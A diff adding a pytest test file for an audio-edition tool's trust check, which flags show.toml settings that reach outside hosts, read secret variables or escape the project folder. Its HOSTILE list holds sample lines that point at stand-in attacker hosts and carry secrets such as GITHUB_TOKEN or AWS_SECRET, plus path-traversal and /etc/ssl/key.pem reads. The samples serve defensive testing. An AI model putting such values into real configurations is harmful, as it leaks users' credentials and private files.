@@ -1,0 +1,358 @@
+"""What a show wants of this machine: found in every setting, asked about once, refused unasked."""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+import tomllib
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner, Result
+
+from audio_edition import build, speak
+from audio_edition.cli.main import cli
+from audio_edition.speech import registry
+from audio_edition.speech.model import VoiceRequest
+from audio_edition.trust import ENGINES, ShowTrust, UntrustedError, of_settings
+from audio_edition.verbs.init import init
+from audio_edition.workspace import Workspace
+from tests.docs.recording import leaves
+from tests.tools import ROOT
+
+LEAST = '[show]\ntitle = "The Lantern"\n[voice]\nengine = "silence"\n'
+EDITION = "2026-11-02"
+HOSTILE = """
+[voice.openai] base_url = "https://tts.evil.example/v1" # tts.evil.example what OPENAI_API_KEY
+[voice.openai] key_env = "GITHUB_TOKEN" # tells api.openai.com what GITHUB_TOKEN
+[voice] voice = "openai:alloy" # api.openai.com
+[voice] fallback = ["espeak", "gtts"] # translate.google.com
+[voice.languages] fr = "edge" # speech.platform.bing.com
+[voice] voice = "piper:/etc/voice.onnx" # reaches piper:/etc/voice.onnx
+[voice.voices] anna = "piper:../../voice.onnx" # outside
+[script] quote_voice = "another:voice" # whomever
+[show] cover = "/home/ada/passport.png" # reaches /home/ada/passport.png
+[show] cover = "../../passport.png" # outside
+[intro] music = "~/private.flac" # outside
+[audio] sting = "file:///srv/x.flac" # outside
+[publish] target = "../www" # outside
+[publish] target = "a/../../www" # outside
+[publish] target = "FILE:///srv/www" # outside
+[publish] target = "git+file:///srv/show.git#pages" # git+file
+[publish] target = "s3://bucket/x?endpoint_url=https://evil.example" # bucket, evil.example
+[publish] target = "simplecache::file:///srv" # simplecache
+[publish] target = "https+dav://a:${AWS_SECRET}@evil.example/x" # evil.example what AWS_SECRET
+[publish] target = "rsync://a@evil.example/x" # asks evil.example
+[publish] hub = "https://hub.example/" # hub.example
+[publish] podping = true # PODPING_TOKEN
+[publish] credentials = { certificate = "env:CERT", key = "/etc/ssl/key.pem" } # what CERT
+[publish] credentials = { certificate = "signer.pem", key = "/etc/ssl/key.pem" } # /etc/ssl/key.pem
+[publish.purge] token = "${CDN}" # tells cdn.example what CDN holds
+[publish.members] secret = "keyring:a/b" # keyring:a/b
+[fetch] address = "https://cms.example/" # cms.example
+[fetch] headers = { Cookie = "x=${A}; y=${B}" } # what A, B
+[source] address = "imaps://ada@mail.example/INBOX" # mail.example
+[source] address = "/var/mail" # /var/mail
+[source] password = "${MAIL}" # what MAIL
+[source] move_to = "../../gone" # outside
+[tell] urls = ["slack://${A}/x", "json://evil.example/${B}"] # what A, B
+[tell] webhook = "https://evil.example/" # evil.example
+[tell] ping = "${PING}" # others what PING
+[hook] post = { address = "https://cms.example/", password = "${P}" } # cms.example what P
+[hook] secret = "${HOOK}" # HOOK
+[cache] store = "sftp://ada@evil.example/x" # evil.example
+[cache] store = "/mnt/other" # outside
+[proof] weights = ["tiny", "https://evil.example/m.zip#sha256=0"] # evil.example
+[proof] weights = ["../../m.zip"] # outside
+[run] metrics = "/var/lib/node/x.prom" # outside
+[desk] logs = ["/var/log/nginx/*"] # outside
+[desk] hosts = ["evil.example"] # these names
+[desk] user_header = "X-User" # who is at the desk
+[new_section] anything = "https://evil.example/" # evil.example
+""".strip().splitlines()
+ORDINARY = """
+[show] link = "https://lantern.example/"
+[show] base_url = "https://lantern.example/audio/"
+[show] cover = "assets/cover.jpg"
+[intro] music = "../assets/intro.flac"
+[intro] text = "Hello: see https://lantern.example/ or ${this} or ../that"
+[voice] voice = "piper:voices/anna.onnx"
+[voice.voices] anna = "espeak:en-gb"
+[publish] target = "public"
+[publish] target = "./public/audio"
+[publish] copyright = "/ 2026 The Lantern"
+[publish] new_feed_url = "https://lantern.example/feed.xml"
+[publish] prefix = "https://op3.dev/e/"
+[publish.subscribe] apple = "https://podcasts.apple.com/x"
+[publish.purge] method = "POST"
+[source] address = "inbox"
+[source] links = "/news/"
+[cleaning] drop = ["https://lantern.example/app", { regex = "^/x" }]
+[tell] on = ["held"]
+[desk] session_hours = 3
+[run] start = "05:00"
+[run] desk = "https://desk.lantern.example/"
+[proof] weights = ["tiny", "models/base"]
+""".strip().splitlines()
+
+# what we print, say or match, and never open: an address there is for others
+WORDS = {
+    "show": "title author description language link base_url category owner_name owner_email guid",
+    "intro": "text",
+    "outro": "text",
+    "script": "rundown_text headline byline_text transition disclosure",
+    "run": "desk",
+    "cleaning": "drop keep signals packs repetition",
+    "desk": "log_format",
+    "scale": "on",  # code: asked about by Workspace.carried_code
+    "source[]": "name user from list_id sections not_sections tags not_tags title links type "
+    "taxonomy",
+    "publish": "title update update_rule copyright narrator ai_content beacon new_feed_url prefix "
+    "license license_url applepodcastsverify",
+    "publish.publisher": "guid url",
+    "publish.social[]": "protocol uri account_id account_url edition",
+    "publish.person[]": "name role group href image",
+    "publish.funding[]": "url text",
+    "publish.subscribe": "apple overcast pocket_casts spotify youtube amazon",
+    "publish.feeds[]": "name title description section language text by bitrate guid",
+    "publish.members": "title description section",
+}
+
+
+def said(line: str) -> dict[str, Any]:
+    """A show.toml of one line of the lists above."""
+    section, _, setting = line.partition("] ")
+    told = tomllib.loads(f"{section}]\n{setting}\n")
+    for name in ("source", "fetch"):
+        if name in told:
+            told[name] = [{"address": "x"} | told[name]]
+    if "purge" in told.get("publish", {}):
+        told["show"] = {"base_url": "https://cdn.example/"}
+    return told
+
+
+def wanted(told: dict[str, Any], root: Path) -> str:
+    return "; ".join(f"{one.name} {one.what}" for one in of_settings(told, root))
+
+
+def test_what_a_setting_wants_is_found_whatever_it_is_called(tmp_path: Path) -> None:
+    wrong = []
+    for line in HOSTILE:
+        line, _, words = line.rpartition(" # ")
+        found = wanted(said(line), tmp_path)
+        wrong += [f"{line}: {found}"] * (not all(word in found for word in words.split()))
+    assert not wrong
+
+
+def test_what_is_ordinary_wants_nothing(tmp_path: Path) -> None:
+    page = (ROOT / "docs/show.md").read_text("utf-8").partition("```toml\n")[2].partition("```")[0]
+    files = ("editions/show.toml", "src/audio_edition/scaffold/show.toml")
+    texts = [page, *((ROOT / file).read_text("utf-8") for file in files)]
+    shows = [*(said(line) for line in ORDINARY), *(tomllib.loads(text) for text in texts)]
+    assert [found for one in shows if (found := wanted(one, tmp_path))] == []
+
+
+def test_no_setting_is_forgotten(tmp_path: Path) -> None:
+    """A new one is asked about as soon as it holds an address, a path or a variable."""
+    schema = json.loads((ROOT / "docs/show.schema.json").read_text("utf-8"))
+    silent = set()
+    for name, one in leaves(schema):
+        if one.get("type") in ("integer", "number", "boolean") or "properties" in one:
+            continue
+        if "properties" in one.get("items", {}):
+            continue
+        for value in ("https://x.example/", "/etc/x", "../../../x", "${X}", ["${X}"]):
+            told: Any = {"inner": value} if one.get("type") == "object" else value
+            for part in reversed(name.split(".")):
+                key = part.removesuffix("[]")
+                told = {key: [told] if part != key else told}
+            if not wanted(told, tmp_path):
+                silent.add(name)
+    assert silent == {f"{table}.{key}" for table, keys in WORDS.items() for key in keys.split()}
+
+
+def test_engines_that_speak_elsewhere_are_known() -> None:
+    remote = {
+        name
+        for name in registry.BUILT_IN
+        if any(
+            voice.is_remote
+            for voice in registry.find(name).voices(VoiceRequest(name, "", "en-US", 1.0, {}))
+        )
+    }
+    assert {name for name, where in ENGINES.items() if where} == remote
+    assert ENGINES.keys() == registry.BUILT_IN.keys()
+
+
+@pytest.fixture(autouse=True)
+def nobody_said_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    monkeypatch.delenv("AUDIO_EDITION_TRUST", raising=False)
+    monkeypatch.setenv("CANARY", "s3cr3t-canary")
+
+
+@pytest.fixture
+def given(tmp_path: Path) -> Path:
+    """A show that somebody gave us, which wants nothing."""
+    root = tmp_path / "given"
+    (root / "editions" / EDITION).mkdir(parents=True)
+    (root / "editions/show.toml").write_text(LEAST)
+    (root / "editions" / EDITION / "01-a.md").write_text("# A\n\nThe ferry left at noon.\n")
+    return root
+
+
+@pytest.fixture
+def listening() -> Iterator[tuple[str, list[str]]]:
+    """A server of somebody's, and what it was told."""
+    heard: list[str] = []
+
+    class Told(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            heard.append(str(self.headers["Authorization"]))
+            self.send_error(400)
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Told)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/v1", heard
+    server.shutdown()
+    server.server_close()
+
+
+def run(root: Path, *words: str) -> Result:
+    return CliRunner().invoke(cli, ["--show", str(root), *words])
+
+
+def add(root: Path, text: str) -> None:
+    with (root / "editions/show.toml").open("a") as stream:
+        stream.write(text)
+
+
+def test_a_variable_goes_nowhere_before_somebody_said_so(
+    given: Path, listening: tuple[str, list[str]]
+) -> None:
+    address, heard = listening
+    assert run(given, "script", EDITION).exit_code == 0, "a simple show is not asked about"
+    add(given, f'[voice.openai]\nbase_url = "{address}"\nkey_env = "CANARY"\n')
+    for words in (["build", EDITION], ["speak", "Hi", "--engine", "openai"], ["run"], ["publish"]):
+        for way in ([], ["--no-plugins"]):
+            done = CliRunner().invoke(cli, [*way, "--show", str(given), *words])
+            assert isinstance(done.exception, UntrustedError), words
+            assert "tells 127.0.0.1" in done.exception.message
+            assert "what CANARY holds" in done.exception.message
+            assert "\n" not in done.exception.message
+    for verb in (
+        lambda: build(Workspace.open(given), EDITION),
+        lambda: speak(Workspace.open(given), "Hi", engine="openai"),
+    ):
+        with pytest.raises(UntrustedError):
+            verb()
+    assert heard == []
+    assert "CANARY" in run(given, "trust").output
+    assert run(given, "trust", "--yes").exit_code == 0
+    run(given, "speak", "Hi", "--engine", "openai")
+    assert heard == ["Bearer s3cr3t-canary"]
+    file = given / "editions/show.toml"
+    workspace = Workspace.open(given)
+    file.write_text(file.read_text().replace('"CANARY"', '"HOME"'))
+    assert "(changed)" in str(run(given, "speak", "Hi", "--engine", "openai").exception)
+    with pytest.raises(UntrustedError):  # whoever has the show open for hours, too
+        speak(workspace.reread(), "Hi", engine="openai")
+    assert len(heard) == 1
+
+
+def test_an_article_names_no_engine_or_file_that_the_show_does_not(given: Path) -> None:
+    article = given / "editions" / EDITION / "01-a.md"
+    add(given, '[voice.voices]\nalba = "silence"\n')
+    wrong = []
+    for voice in ("openai:alloy", "gtts", "piper:/etc/x.onnx", "piper:../../x.onnx", "alba"):
+        article.write_text(f"---\nvoice: {voice}\n---\n# A\n\nThe ferry left.\n")
+        done = run(given, "script", EDITION)
+        if (voice == "alba") != (done.exit_code == 0):
+            wrong.append((voice, done.output))
+    assert not wrong
+    article.write_text("---\nvoice: openai:alloy\n---\n# A\n\nThe ferry left.\n")
+    add(given, 'nova = "openai:alloy"\n')
+    assert run(given, "trust", "--yes").exit_code == 0
+    assert run(given, "script", EDITION).exit_code == 0
+
+
+def test_links_that_lead_out_and_a_theme_are_asked_about(given: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "x.flac").write_bytes(b"")
+    names = ["audio", "runs", "editions/lexicon.toml", "editions/assets/deep/x.flac"]
+    for name in names:
+        (given / name).parent.mkdir(parents=True, exist_ok=True)
+        (given / name).symlink_to(out)
+    (given / "editions/theme").mkdir()
+    (given / "editions/theme/page.html").write_text("<script></script>")
+    (given / "editions/inside.md").symlink_to(given / "editions/show.toml")
+    told = json.loads(run(given, "trust", "--json").output.splitlines()[0])
+    assert sorted(one["name"] for one in told["wants"]) == sorted([*names, "editions/theme"])
+    assert told["code"] == []
+    add(given, '[intro]\nmusic = "sub/x.flac"\n')
+    (given / "editions/sub").symlink_to(out)
+    assert "[intro] music" in run(given, "trust", "--json").output
+
+
+@pytest.mark.parametrize("name", ["edition.toml", "lexicon.toml"])
+def test_an_edition_reads_no_file_from_elsewhere(given: Path, tmp_path: Path, name: str) -> None:
+    (tmp_path / "private.toml").write_text('password = "x"\n')
+    (given / "editions" / EDITION / name).symlink_to(tmp_path / "private.toml")
+    done = run(given, "script", EDITION)
+    assert done.exit_code == 1
+    assert f"{name} is a link that leads out" in str(done.exception)
+
+
+def test_what_an_earlier_version_trusted_is_asked_about_once_and_said_so(
+    given: Path, tmp_path: Path
+) -> None:
+    add(given, '[publish]\ntarget = "../www"\n')
+    run(given, "trust", "--yes")
+    (file,) = (tmp_path / "state/audio-edition/trust").glob("*.json")
+    assert json.loads(file.read_bytes())["version"] == 2
+    old = {"version": 1, "show": str(given), "code": {"editions/plugins/a.py": "0"}}
+    file.write_text(json.dumps(old))
+    done = run(given, "script", EDITION)
+    assert "an earlier version asked about its code alone" in str(done.exception)
+    assert "an earlier version asked about its code alone" in run(given, "trust").output
+    run(given, "trust", "--yes")
+    assert run(given, "script", EDITION).exit_code == 0
+
+
+def test_ones_own_show_is_not_asked_about(tmp_path: Path) -> None:
+    root = init(tmp_path / "own").root
+    add(root, '[tell]\nwebhook = "https://x.example/"\nwebhook_secret = "${CANARY}"\n')
+    assert run(root, "script", "welcome").exit_code == 0
+
+
+def test_one_digest_lets_it_have_all_and_no_more(
+    given: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    add(given, '[publish]\ntarget = "../www"\nhub = "https://hub.example/"\n')
+    told = json.loads(run(given, "trust", "--json").output.splitlines()[0])
+    monkeypatch.setenv("AUDIO_EDITION_TRUST", f"/elsewhere{os.pathsep}sha256-{told['digest']}")
+    assert run(given, "script", EDITION).exit_code == 0
+    monkeypatch.setenv("AUDIO_EDITION_TRUST", f"sha256-{told['wants'][0]['sha256']}")
+    refused = str(run(given, "script", EDITION).exception)
+    assert "hub" in refused
+    assert "target" not in refused
+    monkeypatch.delenv("AUDIO_EDITION_TRUST")
+    ShowTrust(given).allow(Workspace.open(given).wanted())
+    add(given, "podping = true\n")
+    assert "PODPING_TOKEN" in str(run(given, "script", EDITION).exception)
+
+
+def test_a_command_that_uses_one_section_asks_about_that(given: Path) -> None:
+    add(given, '[tell]\nwebhook = "https://x.example/"\nwebhook_secret = "${CANARY}"\n')
+    assert run(given, "cache").exit_code == 0
+    add(given, '[cache]\nstore = "s3://evil/x"\n')
+    assert isinstance(run(given, "cache").exception, UntrustedError)
+    assert run(given, "runs").exit_code == 0
